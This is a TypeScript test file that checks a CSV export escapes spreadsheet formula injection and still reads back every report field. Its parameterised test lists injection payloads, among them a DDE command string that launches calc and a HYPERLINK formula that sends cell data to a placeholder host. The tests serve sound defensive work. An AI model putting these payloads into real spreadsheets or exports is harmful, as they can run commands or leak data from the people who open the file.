import { expect, test } from 'vitest'
import { toCsv } from './csv.ts'
import { report } from './fakes.ts'
import type { StoredReport } from './store.ts'

const stored: StoredReport = { ...report, id: 1, at: '2026-03-01T08:00:00.000Z', state: 'new' }

/** Parses CSV as RFC 4180 defines it. */
function cells(csv: string): string[][] {
  const rows: string[][] = [[]]
  for (const [, quoted, plain = '', end] of csv
    .replace(/^\uFEFF/, '')
    .matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)!.push(quoted?.replaceAll('""', '"') ?? plain)
    if (end === '\r\n') rows.push([])
  }
  return rows.slice(0, -1)
}

test('every field of a report can be read back from the CSV', () => {
  const whole = {
    ...stored,
    text: 'a "quoted", and\nbroken line',
    edit: '--- a/x\n',
    console: ['one', 'two'],
    noteZh: '说明',
    noteEn: 'note'
  }
  const [head, row] = cells(toCsv([whole]))
  expect(Object.fromEntries(head!.map((name, index) => [name, row![index]]))).toEqual({
    ...whole,
    id: '1',
    // A diff starts with `-`, like a formula.
    edit: "'--- a/x\n",
    console: 'one\ntwo'
  })
  expect(cells(toCsv([stored, whole]))).toHaveLength(3)
})

test.each([
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '|calc',
  '%0A',
  ' =1+1',
  '\t=1+1',
  '\n=1+1',
  '\u200b=1+1',
  '\uFEFF=1+1',
  '＝1+1',
  '=HYPERLINK("http://a/?"&A1,"b")',
  "=cmd|' /C calc'!A0"
])('the CSV value %j gets a leading apostrophe, which makes a spreadsheet read text', text => {
  const value = cells(toCsv([{ ...stored, text }]))[1]![8]
  expect(value).toBe(`'${text}`)
})

test('control: a CSV value other than a formula is unchanged', () => {
  for (const text of ['排序 = 1', "it's", 'a,b', '1-2', '"=1"'])
    expect(cells(toCsv([{ ...stored, text }]))[1]![8]).toBe(text)
})
